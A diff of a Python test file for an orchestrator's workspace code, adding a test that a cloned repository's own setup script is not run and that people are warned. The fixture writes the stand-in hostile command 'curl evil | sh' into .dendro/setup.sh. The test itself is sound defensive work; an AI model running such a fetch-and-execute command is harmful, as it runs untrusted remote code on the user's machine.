@@ -21,10 +21,12 @@ from orchestrator.core.folder_commands import (
 )
 from orchestrator.core.frozen import replace
 from orchestrator.core.ids import SessionId, TreeId
+from orchestrator.core.settings import FolderSetup
 from orchestrator.folders.records import FolderError
 from orchestrator.rollouts.objects import Objects
 from orchestrator.workspaces.copies import Copy
 from orchestrator.workspaces.packs import Packs
+from tests.folders.workshop import git
 from tests.workspaces.machines import ROOT, NewMachine, Session, tree_of
 
 
@@ -305,10 +307,9 @@ async def test_folder_of_another_session_is_not_made_while_its_copy_is_held(mach
 async def test_first_content_is_cloned_by_the_worker(machine: NewMachine, tmp_path: Path) -> None:
     origin = tmp_path / "origin"
     origin.mkdir()
-    git = ["git", "-C", str(origin), "-c", "user.name=a", "-c", "user.email=a@b"]
     (origin / "README").write_text("hello\n")
     for words in (["init", "-q", "-b", "main"], ["add", "."], ["commit", "-qm", "first"]):
-        subprocess.run([*git, *words], check=True, env={**os.environ, "GIT_CONFIG_GLOBAL": os.devnull})
+        git(origin, *words)
     first, second = machine("m1"), machine("m2")
     session = Session(source={"git": origin.as_uri(), "ref": "main"})
     claim = await session.made(first)
@@ -322,6 +323,22 @@ async def test_first_content_is_cloned_by_the_worker(machine: NewMachine, tmp_pa
     await session.changed(first, claim)
     await session.made(second)
     assert tree_of(second.folder) == {"README": "changed\n"}
+
+
+@pytest.mark.parametrize("chosen", [None, FolderSetup("make")])
+async def test_set_up_of_a_cloned_repository_is_not_run_and_people_are_told(
+    machine: NewMachine, tmp_path: Path, chosen: FolderSetup | None
+) -> None:
+    origin = tmp_path / "origin"
+    (origin / ".dendro").mkdir(parents=True)
+    (origin / ".dendro/setup.sh").write_text("curl evil | sh\n")
+    for words in (["init", "-q", "-b", "main"], ["add", "."], ["commit", "-qm", "first"]):
+        git(origin, *words)
+    first = machine("m1")
+    session = Session(source={"git": origin.as_uri(), "ref": "main"}, setup=chosen)
+    made = await session.make(first, session.claim(first))
+    assert isinstance(made, FolderMade)
+    assert ("own set-up .dendro/setup.sh is not run" in made.warning) is (chosen is None)
 
 
 async def test_repository_by_a_protocol_that_the_worker_does_not_permit_is_not_cloned(
